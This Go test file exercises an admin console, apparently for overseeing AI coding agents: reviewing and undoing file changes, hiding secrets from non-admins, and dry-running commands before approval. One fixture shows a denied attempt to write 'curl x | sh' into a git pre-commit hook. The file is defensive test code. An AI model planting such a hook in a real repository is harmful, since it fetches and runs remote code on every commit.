package console_test

import (
	"context"
	"html"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/obstat/obstat"
	"github.com/obstat/obstat/internal/face/server"
	"github.com/obstat/obstat/internal/keep/changes"
	"github.com/obstat/obstat/ledger"
	"github.com/obstat/obstat/paths"
)

// A workshop is a server on its agents' machine, with a project in which calls have changed files.
type workshop struct {
	*site
	store *changes.Store
	dir   string
}

// openWorkshop opens such a server; try is how it runs commands to see.
func openWorkshop(t *testing.T, try func(context.Context, *obstat.Call) (*server.Tried, error)) *workshop {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	must(t, err)
	store, err := changes.Open(filepath.Join(t.TempDir(), "changes"), changes.Limits{})
	must(t, err)
	s := openWith(t, func(o *server.Options) {
		o.World, o.Try = obstat.OS{}, try
		o.Changes = func() (*changes.Store, error) { return store, nil }
	})
	return &workshop{s, store, dir}
}

// changed has a call of an agent change a file, and returns its change.
func (w *workshop) changed(session, text, name, contents string, secret bool) *changes.Change {
	w.t.Helper()
	path := filepath.Join(w.dir, name)
	of := changes.Of{Call: text, Session: session, Agent: "coder", Tool: "Bash", Text: text, Dir: w.dir,
		Reason: "allow rule `edit workspace` (obstat.yaml:4:5)"}
	_, err := w.store.Save(of, []changes.Reach{{Paths: paths.Exactly(path)}}, secret)
	must(w.t, err)
	must(w.t, os.WriteFile(path, []byte(contents), 0o644))
	c, err := w.store.End(text, session)
	must(w.t, err)
	return c
}

func (w *workshop) write(name, text string) {
	w.t.Helper()
	must(w.t, os.WriteFile(filepath.Join(w.dir, name), []byte(text), 0o644))
}

func (w *workshop) holds(name, want string) {
	w.t.Helper()
	if b, err := os.ReadFile(filepath.Join(w.dir, name)); err != nil || string(b) != want {
		w.t.Errorf("%s holds %q, %v; want %q", name, b, err, want)
	}
}

var seenField = regexp.MustCompile(`name="seen" value="([0-9a-f]+)"`)

// TestChanges: an administrator of the machine sees what calls changed, by whose leave, with the difference, and takes
// it back; taking back is a record, and can be taken back. It works without a script.
func TestChanges(t *testing.T) {
	w := openWorkshop(t, nil)
	w.write("main.go", "package main\n\nfunc old() {}\n")
	one := w.changed("s1", "sed -i s/old/new/ main.go", "main.go", "package main\n\nfunc new() {}\n", false)
	root := w.visitor("root", server.RoleAdmin)
	_, page := root.get("/changes")
	for _, want := range []string{"sed -i s/old/new/ main.go", "allow rule `edit workspace` (obstat.yaml:4:5)", "1 path", "Take back…"} {
		if !strings.Contains(html.UnescapeString(page), want) {
			t.Errorf("%q is not in %s", want, page)
		}
	}
	if _, page := root.get("/changes/" + one.ID); !strings.Contains(html.UnescapeString(page), `<span class="minus">- func old() {}</span><span class="plus">+ func new() {}</span>`) {
		t.Errorf("no difference: %s", page)
	}
	_, page = root.get("/changes/undo?id=" + url.QueryEscape(one.ID))
	if !strings.Contains(html.UnescapeString(page), `<span class="plus">+ func old() {}</span>`) || !strings.Contains(page, "Put 1 path back") {
		t.Fatalf("no plan: %s", page)
	}
	seen := seenField.FindStringSubmatch(page)[1]
	code, page := root.post("/changes/undo", url.Values{"id": {one.ID}, "seen": {seen}})
	if code != http.StatusOK || !strings.Contains(page, "The files are as they were before") {
		t.Fatalf("%d %s", code, page)
	}
	w.holds("main.go", "package main\n\nfunc old() {}\n")
	var rec *ledger.Record
	for r, err := range w.site.store.Records(t.Context(), ledger.Query{Kind: ledger.Undo}) {
		must(t, err)
		rec = r
	}
	if rec == nil || rec.User != "root" || !strings.Contains(string(rec.Detail), one.ID) {
		t.Errorf("the record is %+v", rec)
	}
	list, err := w.store.List()
	must(t, err)
	_, page = root.get("/changes/undo?id=" + url.QueryEscape(list[0].ID))
	seen = seenField.FindStringSubmatch(page)[1]
	root.post("/changes/undo", url.Values{"id": {list[0].ID}, "seen": {seen}})
	w.holds("main.go", "package main\n\nfunc new() {}\n")
}

// TestChangesTogether: a session is taken back as a whole; a file that something else changed since stands against it,
// and its later lines are kept on request.
func TestChangesTogether(t *testing.T) {
	w := openWorkshop(t, nil)
	w.write("a", "1\n2\n3\n4\n5\n")
	w.changed("s1", "first", "a", "one\n2\n3\n4\n5\n", false)
	w.changed("s1", "second", "b", "new\n", false)
	w.changed("s2", "other", "c", "other\n", false)
	w.write("a", "one\n2\n3\n4\nfive\n")
	root := w.visitor("root", server.RoleAdmin)
	_, page := root.get("/changes?session=s1")
	if !strings.Contains(page, "/changes/undo?session=s1") || strings.Contains(page, ">other<") {
		t.Errorf("%s", page)
	}
	_, page = root.get("/changes/undo?session=s1")
	if !strings.Contains(page, "It cannot be taken back as a whole") || !strings.Contains(page, "it was changed since") || strings.Contains(page, "paths back") {
		t.Fatalf("%s", page)
	}
	merge := html.UnescapeString(regexp.MustCompile(`/changes/undo\?[^"]*merge[^"]*`).FindString(page))
	_, page = root.get(merge)
	seen := seenField.FindStringSubmatch(page)[1]
	if code, page := root.post("/changes/undo", url.Values{"session": {"s1"}, "merge": {"1"}, "seen": {seen}}); code != http.StatusOK {
		t.Fatalf("%d %s", code, page)
	}
	w.holds("a", "1\n2\n3\n4\nfive\n")
	w.holds("c", "other\n")
	if _, err := os.Lstat(filepath.Join(w.dir, "b")); !os.IsNotExist(err) {
		t.Errorf("b is there: %v", err)
	}
}

// TestChangesSeen: what is put back is what the page has shown; otherwise it is shown anew.
func TestChangesSeen(t *testing.T) {
	w := openWorkshop(t, nil)
	w.write("a", "before\n")
	one := w.changed("s1", "call", "a", "after\n", false)
	root := w.visitor("root", server.RoleAdmin)
	_, page := root.get("/changes/undo?id=" + url.QueryEscape(one.ID))
	seen := seenField.FindStringSubmatch(page)[1]
	w.write("a", "a person's\n")
	code, page := root.post("/changes/undo", url.Values{"id": {one.ID}, "seen": {seen}})
	if code != http.StatusConflict || !strings.Contains(page, "Nothing was put back") {
		t.Errorf("%d %s", code, page)
	}
	w.holds("a", "a person's\n")
	w.write("a", "after\n")
	if code, page := root.post("/changes/undo", url.Values{"id": {one.ID}}); code != http.StatusConflict || !strings.Contains(page, "Put 1 path back") {
		t.Errorf("without a look: %d %s", code, page)
	}
	w.holds("a", "after\n")
}

// TestChangesAreForAdministrators: contents of files are not for everybody who answers, nor secrets for a page.
func TestChangesAreForAdministrators(t *testing.T) {
	w := openWorkshop(t, nil)
	w.write(".env", "KEY=old-secret\n")
	one := w.changed("s1", "call", ".env", "KEY=new-secret\n", true)
	dev, root := w.visitor("dev", "dev"), w.visitor("root", server.RoleAdmin)
	for _, path := range []string{"/changes", "/changes/" + one.ID, "/changes/undo?id=" + one.ID} {
		if code, page := dev.get(path); code != http.StatusForbidden || strings.Contains(page, "secret") {
			t.Errorf("%s: %d %s", path, code, page)
		}
		if code, page := root.get(path); code != http.StatusOK || strings.Contains(page, "-secret") {
			t.Errorf("%s shows a secret: %d %s", path, code, page)
		}
	}
	if code, _ := dev.post("/changes/undo", url.Values{"id": {one.ID}}); code != http.StatusForbidden {
		t.Errorf("taken back by one who may not: %d", code)
	}
	if _, page := dev.get("/"); strings.Contains(page, `href="/changes"`) {
		t.Error("the page is named to one who may not see it")
	}
}

// TestChangesElsewhere: a server that is not on the agents' machine has no files, and says so.
func TestChangesElsewhere(t *testing.T) {
	s := open(t)
	root := s.visitor("root", server.RoleAdmin)
	for _, path := range []string{"/changes", "/changes/x", "/changes/undo?id=x"} {
		code, page := root.get(path)
		if code != http.StatusOK || !strings.Contains(page, "The files are on another machine") || !strings.Contains(page, "obstat changes") {
			t.Errorf("%s: %d %s", path, code, page)
		}
	}
	if _, page := root.get("/"); strings.Contains(page, `href="/changes"`) {
		t.Error("the page is named where it has nothing")
	}
}

// triedSample is how a command ran that a test's server runs to see.
func triedSample(_ context.Context, c *obstat.Call) (*server.Tried, error) {
	return &server.Tried{Exit: 0, Output: "3 files formatted", Refused: []string{"it wanted to connect to example.com:443"},
		Paths: []server.TriedPath{
			{Path: c.Dir + "/src/app.js", Kind: "changed", Verdict: "allow", Diff: []string{"  const a = 1", "- let b=2", "+ let b = 2;"}},
			{Path: c.Dir + "/.git/hooks/pre-commit", Kind: "created", Verdict: "deny", Reason: "deny rule write .git/**", Diff: []string{"+ curl x | sh"}}}}, nil
}

// TestRunToSee: where nothing can be known of a command, an administrator runs it to see, and is back at the question.
func TestRunToSee(t *testing.T) {
	w := openWorkshop(t, triedSample)
	must(t, os.WriteFile(w.file, []byte(`{"permission": {"bash": {"ls": "allow"}}}`), 0o600))
	id := w.run("./format.sh --all").Request.ID
	root, dev := w.visitor("root", server.RoleAdmin), w.visitor("dev", "dev")
	if _, page := root.get("/requests/" + id); !strings.Contains(page, "/requests/"+id+"/try") {
		t.Fatalf("no button: %s", page)
	}
	if _, page := dev.get("/requests/" + id); strings.Contains(page, "/try\"") || !strings.Contains(page, "obstat try --") {
		t.Errorf("a button for one who may not, or no command to copy: %s", page)
	}
	if code, _ := dev.post("/requests/"+id+"/try", url.Values{}); code != http.StatusForbidden {
		t.Errorf("run by one who may not: %d", code)
	}
	code, page := root.post("/requests/"+id+"/try", url.Values{})
	for _, want := range []string{"2 paths changed", "/src/app.js", "+ let b = 2;", "deny rule write .git/**", "it wanted to connect to example.com:443", "3 files formatted", `value="once"`} {
		if code != http.StatusOK || !strings.Contains(html.UnescapeString(page), want) {
			t.Errorf("%d, %q is not in %s", code, want, page)
		}
	}
	known := w.run("git push --force").Request.ID
	if code, _ := root.post("/requests/"+known+"/try", url.Values{}); code != http.StatusBadRequest {
		t.Errorf("git push is run to see: %d", code)
	}
}

// browseChanges: a person looks at a change and takes it back in a real browser, on a large screen, in the dark and on a
// phone; nothing is out of sight.
func browseChanges(t *testing.T, browser context.Context) {
	w := openWorkshop(t, triedSample)
	w.write("main.go", "package main\n\nfunc main() {\n\tprintln(\"hello\")\n}\n")
	w.changed("s1", "sed -i 's/hello/goodbye/' main.go", "main.go", "package main\n\nfunc main() {\n\tprintln(\"goodbye\")\n}\n", false)
	w.write("notes.md", "# Notes\n\n- one\n- two\n")
	w.changed("s1", "python3 tidy.py", "notes.md", "# Notes\n", false)
	root := w.tab(browser, "root", server.RoleAdmin)
	fits := `document.documentElement.scrollWidth <= innerWidth`
	for _, screen := range []struct {
		name string
		w, h int64
		dark bool
	}{{"", 1280, 900, false}, {"-dark", 1280, 900, true}, {"-phone", 390, 844, false}} {
		root.do(chromedp.EmulateViewport(screen.w, screen.h))
		root.scheme(screen.dark)
		root.do(chromedp.Navigate(w.url + "/changes"))
		root.sees("python3 tidy.py")
		root.see(fits)
		root.see(`[...document.querySelectorAll(".side a.page")].every(e => e.getBoundingClientRect().right <= innerWidth + 1)`)
		root.picture("changes" + screen.name)
		root.do(chromedp.Click(`td.text a`))
		root.see(`document.querySelector(".diff .minus")`)
		root.see(fits)
		root.picture("change" + screen.name)
		root.do(chromedp.Click(`a[href^="/changes/undo"]`))
		root.sees("Put 1 path back")
		root.see(fits)
		root.picture("undo" + screen.name)
	}
	root.do(chromedp.Click(`form.card button.yes`))
	root.sees("The files are as they were before")
	w.holds("notes.md", "# Notes\n\n- one\n- two\n")
	must(t, os.WriteFile(w.file, []byte(`{"permission": {"bash": {"ls": "allow"}}}`), 0o600))
	id := w.run("./format.sh --all").Request.ID
	root.do(chromedp.Navigate(w.url + "/requests/" + id))
	root.sees("Run it to see")
	root.picture("see-phone")
	root.do(chromedp.Click(`form.see button`))
	root.sees("2 paths changed")
	root.see(fits)
	root.picture("tried-phone")
	root.do(chromedp.EmulateViewport(1280, 900))
	root.picture("tried")
	root.eval(`document.querySelector("#single button[value=once]").click()`)
	root.do(chromedp.KeyEvent("y"))
	w.waitFor(id, "approved")
}
